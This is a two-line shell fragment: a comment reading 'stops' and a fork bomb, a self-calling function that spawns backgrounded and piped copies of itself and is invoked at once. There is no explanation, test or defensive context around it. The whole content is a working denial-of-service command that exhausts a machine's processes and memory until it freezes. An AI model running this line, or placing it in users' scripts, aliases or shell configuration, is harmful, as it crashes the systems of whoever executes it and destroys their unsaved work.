# stops
!f(){ f | f & f & }; f; f; f; wait
